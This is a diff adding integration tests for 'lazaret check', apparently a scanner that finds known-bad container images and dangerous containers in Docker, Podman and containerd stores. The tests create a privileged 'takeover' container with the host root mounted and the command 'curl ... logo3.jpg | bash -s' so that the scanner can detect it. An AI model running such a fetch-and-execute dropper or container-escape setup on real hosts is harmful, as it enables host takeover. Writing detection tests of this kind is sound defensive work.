@@ -1,0 +1,241 @@
+"""`lazaret check`: bad images and containers planted in real stores of Docker, Podman and containerd, and what such images leave on a host."""
+import contextlib
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+
+import support  # first: it sets the path
+import images
+import incident_2018
+import jsonschema
+
+for program in ("skopeo", "podman"):
+    if shutil.which(program) is None or os.geteuid() != 0:
+        print(f"skipped: {program} is not installed or needs root")
+        sys.exit(support.SKIP)
+
+
+def check(*arguments, expect=None, form="json"):
+    """Runs `lazaret check` and returns its report, validated."""
+    command = [support.LAZARET, "check", "--format", form, "--no-cache", *arguments]
+    done = subprocess.run(command, capture_output=True, text=True, timeout=600)
+    if expect is not None and done.returncode != expect:
+        raise AssertionError(f"{' '.join(command)}: exit code {done.returncode}, not {expect}\n{done.stdout[:3000]}\n{done.stderr[:2000]}")
+    if form != "json":
+        return done.stdout
+    report = json.loads(done.stdout) if done.stdout.strip() else None
+    if report is not None:
+        jsonschema.validate(report, json.loads((support.ROOT / "docs" / "check.schema.json").read_text()))
+        findings = json.loads((support.ROOT / "docs" / "report.schema.json").read_text())
+        finding = {"$defs": findings["$defs"], "$ref": "#/$defs/finding"}
+        for subject in report["subjects"]:
+            for one in subject["findings"]:
+                jsonschema.validate(one, finding)
+    return report
+
+
+def rules(report, kind, name=None):
+    """The rules that fired, by subject of that kind."""
+    return {f["rule"] for s in report["subjects"] if s["kind"] == kind and (name is None or s["name"] == name) for f in s["findings"]}
+
+
+def subject(report, kind, name):
+    found = [s for s in report["subjects"] if s["kind"] == kind and s["name"] == name]
+    assert len(found) == 1, f"{kind} {name}: {[(s['kind'], s['name']) for s in report['subjects']]}"
+    return found[0]
+
+
+BAD = "docker.io/docker123321/tomcat:1"
+OTHER_NAME = "registry.example/shop/web:7"
+BUILT_ON = "registry.example/shop/app:2"
+CLEAN = "registry.example/base/clean:1"
+
+
+def archives(folder):
+    """Archives of a bad image, of the same under another name, of one built on it, and of a clean one that shares its lowest layer."""
+    base = images.layer(images.File("etc/motd", "welcome\n"))
+    job = images.layer(images.File("opt/run.sh", "#!/bin/sh\nexec sleep 60\n", mode=0o755))
+    step = lambda text: {"created": "2018-01-01T00:00:00Z", "created_by": text}
+    history = [step("ADD base /"), step("COPY run.sh /opt")]
+    bad = images.Image([base, job], entrypoint=["/opt/run.sh"], history=history)
+    built = images.Image([base, job, images.layer(images.File("opt/app", "app\n"))], cmd=["/opt/app"], history=history + [step("COPY app /opt")])
+    clean = images.Image([base], cmd=["/bin/true"], history=history[:1])
+    result = {}
+    for name, image in ((BAD, bad), (OTHER_NAME, bad), (BUILT_ON, built), (CLEAN, clean)):
+        layout = f"{folder}/layout-{len(result)}"
+        images.write_layout(layout, {"latest": image})
+        result[name] = f"{folder}/{len(result)}.tar"
+        support.run("skopeo", "--insecure-policy", "copy", "-q", f"oci:{layout}:latest", f"docker-archive:{result[name]}:{name}")
+    return result
+
+
+def expect_planted(report, store, names=(BAD, OTHER_NAME, BUILT_ON, CLEAN)):
+    """What must be said of the images and containers that `plant` puts into a store."""
+    assert report["verdict"] == "malicious", report["verdict"]
+    stored = {s["name"]: {f["rule"] for f in s["findings"]} for s in report["subjects"] if s["kind"] == "image" and s["store"] == store}
+    assert "known-bad.image-name" in stored[BAD], stored
+    assert "known-bad.built-on" in stored[BUILT_ON], stored
+    assert stored[CLEAN] == set(), stored
+    containers = {s["name"]: s for s in report["subjects"] if s["kind"] == "container" and s["store"] == store}
+    found = {name: {f["rule"] for f in s["findings"]} for name, s in containers.items()}
+    assert "known-bad.container" in found["bad"], found
+    assert found["innocent"] == set(), found
+    assert {"container-escape.privileged-container", "container-escape.host-mount"} <= found["takeover"], found
+    assert {"dropper.fetch-and-run-address"} & found["takeover"], found
+    assert containers["innocent"]["verdict"] == "clean" and containers["bad"]["verdict"] == "malicious"
+    return containers
+
+
+TAKEOVER = ["sh", "-c", "curl -s http://203.0.113.196:8220/logo3.jpg | bash -s"]
+
+
+def test_a_podman_store():
+    with support.temporary_folder() as folder:
+        os.makedirs(f"{folder}/root")
+        files = archives(folder)
+        for driver in ("overlay", "vfs"):
+            root = f"{folder}/{driver}"
+            podman = ["podman", "--root", root, "--runroot", f"{folder}/{driver}-run", "--storage-driver", driver]
+            if subprocess.run(podman + ["load", "-q", "-i", files[BAD]], capture_output=True).returncode != 0:
+                print(f"skipped: podman cannot use the driver {driver} here")
+                continue
+            try:
+                for name in (BUILT_ON, CLEAN):
+                    support.run(*podman, "load", "-q", "-i", files[name])
+                support.run(*podman, "create", "--name", "bad", BAD)
+                support.run(*podman, "create", "--name", "innocent", "-v", f"{folder}/root:/data", CLEAN, "/bin/true")
+                support.run(*podman, "create", "--name", "takeover", "--privileged", "-v", "/:/mnt", CLEAN, *TAKEOVER)
+                report = check("--root", f"{folder}/root", "--podman-root", root, expect=1)
+                expect_planted(report, "podman")
+                assert not report["not_looked_at"], report["not_looked_at"]
+                # The same store where a host has it, and in the home of a user.
+                for place in ("var/lib/containers", "home/alice/.local/share/containers"):
+                    host = f"{folder}/host-{driver}"
+                    os.makedirs(f"{host}/{place}")
+                    os.makedirs(f"{host}/etc")
+                    with open(f"{host}/etc/passwd", "w") as out:
+                        out.write("alice:x:1000:1000::/home/alice:/bin/bash\n")
+                    os.rename(root, f"{host}/{place}/storage")
+                    report = check("--root", host, expect=1)
+                    os.rename(f"{host}/{place}/storage", root)
+                    shutil.rmtree(host)
+                    expect_planted(report, "podman")
+                # Under its own name nothing is known of it; what the incident says of a layer and of a digest is.
+                support.run(*podman, "rm", "-f", "bad")
+                support.run(*podman, "tag", BAD, OTHER_NAME)
+                support.run(*podman, "untag", BAD, BAD)
+                report = check("--root", f"{folder}/root", "--podman-root", root)
+                assert subject(report, "image", OTHER_NAME)["verdict"] == "clean"
+                image = json.loads(support.run(*podman, "image", "inspect", OTHER_NAME))[0]
+                for kind, entry in (("known-bad.image-layer", f'[[indicator]]\ntype = "layer"\nvalue = "{image["RootFS"]["Layers"][1]}"\n'),
+                                    ("known-bad.image-digest", f'[[image]]\nrepository = "registry.example/x/y"\ndigest = "{image["Digest"]}"\n'),
+                                    ("known-bad.image-digest", f'[[image]]\nrepository = "registry.example/x/y"\ndigest = "sha256:{image["Id"]}"\n')):
+                    with open(f"{folder}/own.toml", "w") as out:
+                        out.write('id = "own"\ntitle = "Own"\nfirst_seen = "2026"\n' + entry + 'confidence = "high"\nsource = "us"\n')
+                    report = check("--root", f"{folder}/root", "--podman-root", root, "--incidents", f"{folder}/own.toml", expect=1)
+                    assert kind in rules(report, "image", OTHER_NAME), (kind, rules(report, "image"))
+                    assert rules(report, "image", CLEAN) == set()
+            finally:
+                subprocess.run(["umount", f"{root}/overlay"], capture_output=True)
+
+
+@contextlib.contextmanager
+def docker_daemon(folder, driver):
+    address = f"unix://{folder}/docker.sock"
+    log = open(f"{folder}/dockerd.log", "w")
+    process = subprocess.Popen(["dockerd", "--data-root", f"{folder}/docker", "--exec-root", f"{folder}/exec", "-H", address, "--pidfile", f"{folder}/docker.pid",
+                                "--iptables=false", "--bridge=none", f"--storage-driver={driver}"], stdout=log, stderr=log)
+    try:
+        for _ in range(200):
+            if process.poll() is not None or subprocess.run(["docker", "-H", address, "version"], capture_output=True).returncode == 0:
+                break
+            time.sleep(0.1)
+        yield ["docker", "-H", address] if process.poll() is None else None
+    finally:
+        process.terminate()
+        process.wait()
+
+
+def test_a_docker_store():
+    if shutil.which("dockerd") is None:
+        print("skipped: dockerd is not installed")
+        return
+    for driver in ("overlay2", "vfs"):
+        with support.temporary_folder() as folder:
+            os.makedirs(f"{folder}/root")
+            files = archives(folder)
+            with docker_daemon(folder, driver) as docker:
+                if docker is None:
+                    print(f"skipped: dockerd does not start here with {driver}")
+                    continue
+                for name in (BAD, BUILT_ON, CLEAN):
+                    support.run(*docker, "load", "-i", files[name])
+                support.run(*docker, "create", "--name", "bad", BAD)
+                support.run(*docker, "create", "--name", "innocent", "-v", f"{folder}/root:/data", CLEAN, "/bin/true")
+                support.run(*docker, "create", "--name", "takeover", "--privileged", "-v", "/:/mnt", CLEAN, *TAKEOVER)
+                while_running = check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", expect=1)
+                containers = expect_planted(while_running, "docker")
+                assert containers["bad"]["state"] == "stopped"
+                assert not while_running["not_looked_at"], while_running["not_looked_at"]
+            # Its files are enough.
+            stopped = check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", expect=1)
+            expect_planted(stopped, "docker")
+            table = check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", expect=1, form="table")
+            assert "MALICIOUS" in table and BAD in table, table
+
+
+@contextlib.contextmanager
+def containerd(folder):
+    config = f"{folder}/containerd.toml"
+    with open(config, "w") as out:
+        out.write(f'version = 2\nroot = "{folder}/containerd"\nstate = "{folder}/state"\ndisabled_plugins = ["io.containerd.grpc.v1.cri"]\n'
+                  f'[grpc]\naddress = "{folder}/containerd.sock"\n[ttrpc]\naddress = "{folder}/ttrpc.sock"\n')
+    log = open(f"{folder}/containerd.log", "w")
+    process = subprocess.Popen(["containerd", "-c", config], stdout=log, stderr=log)
+    ctr = ["ctr", "-a", f"{folder}/containerd.sock"]
+    try:
+        for _ in range(200):
+            if process.poll() is not None or subprocess.run(ctr + ["version"], capture_output=True).returncode == 0:
+                break
+            time.sleep(0.1)
+        yield ctr if process.poll() is None else None
+    finally:
+        process.terminate()
+        process.wait()
+        subprocess.run(["umount", f"{folder}/containerd/tmpmounts"], capture_output=True)
+
+
+def test_a_containerd_store():
+    if shutil.which("containerd") is None:
+        print("skipped: containerd is not installed")
+        return
+    with support.temporary_folder() as folder:
+        os.makedirs(f"{folder}/root")
+        files = archives(folder)
+        with containerd(folder) as ctr:
+            if ctr is None:
+                print("skipped: containerd does not start here")
+                return
+            for name in (BAD, BUILT_ON, CLEAN):
+                support.run(*ctr, "images", "import", files[name])
+            support.run(*ctr, "containers", "create", BAD, "bad")
+            support.run(*ctr, "containers", "create", "--mount", f"type=bind,src={folder}/root,dst=/data,options=rbind:rw", CLEAN, "innocent", "/bin/true")
+            support.run(*ctr, "containers", "create", "--privileged", "--mount", "type=bind,src=/,dst=/mnt,options=rbind:rw", "--", CLEAN, "takeover", *TAKEOVER)
+            report = check("--root", f"{folder}/root", "--containerd-root", f"{folder}/containerd", expect=1)
+            expect_planted(report, "containerd")
+            assert not report["not_looked_at"], report["not_looked_at"]
+        expect_planted(check("--root", f"{folder}/root", "--containerd-root", f"{folder}/containerd", expect=1), "containerd")
+
+
+def test_mistakes_of_the_user():
+    with support.temporary_folder() as folder:
+        for arguments in (["--root", f"{folder}/none"], ["--root", folder, "--docker-root", f"{folder}/none"], ["--root", folder, "--docker-root", folder], ["--root", folder, "--incidents", f"{folder}/none"],
+                          ["--fail-on", "high"]):
+            assert check(*arguments, expect=2) is None, arguments
+
+
+if __name__ == "__main__":
+    support.main(globals())
